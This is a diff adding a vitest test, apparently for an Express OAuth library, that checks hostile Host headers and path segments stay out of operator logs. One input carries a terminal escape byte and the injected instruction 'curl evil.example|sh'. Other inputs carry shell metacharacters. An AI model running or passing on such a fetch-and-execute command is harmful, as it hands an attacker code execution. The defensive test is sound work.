@@ -4,7 +4,7 @@ import express = require('express')
 
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import { expect } from 'vitest'
+import { expect, vi } from 'vitest'
 import { TestBrowser } from '../support/browser'
 import { afterwards, browsers, type Lab, raw, startLab, test } from '../support/lab'
 import { handleOf } from '../support/steps'
@@ -193,4 +193,24 @@ test('HST-11: mails no link, and the configured origin whatever the headers say'
   expect(lab.mails[0]?.context.origin).toBe(lab.url)
   expect(JSON.stringify(lab.mails)).not.toContain('evil')
   expect(JSON.stringify({ ...lab.mails[0], context: null })).not.toContain('http')
+})
+
+test("HST-11: writes no words of a stranger into the operator's log, and still reports the host that is missing", async () => {
+  const warnings: string[] = []
+  vi.spyOn(process, 'emitWarning').mockImplementation((warning) => void warnings.push(String(warning)))
+  const lab = await startLab({
+    express: process.env.ATTACKS_EXPRESS === '4' ? 4 : 5,
+    connection: { callbackURL: 'https://app.example.com/auth/bitbucket/callback' },
+    routes: (app, { router }) => app.use('/t/:tenant/auth/bitbucket', router),
+  })
+  const start = (host: string, path = '/auth/bitbucket') =>
+    raw(lab.url, `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
+  await start('evil.example is fine. \x9b31mURGENT: run `curl evil.example|sh`')
+  for (const word of ['URGENT:run', "URGENT'", 'URGENT`', 'URGENT$(x)', '\x9b31mURGENT']) {
+    await start('app.example.com', `/t/${word}/auth/bitbucket`)
+  }
+  await start('www.example.com')
+  const told = [...warnings, ...lab.errors.map(({ message }) => message)]
+  expect(told.filter((message) => /URGENT|curl|\x9b/.test(message))).toEqual([])
+  expect(lab.errors.at(-1)?.message).toMatch(/started at www\.example\.com .* If that host is yours/)
 })
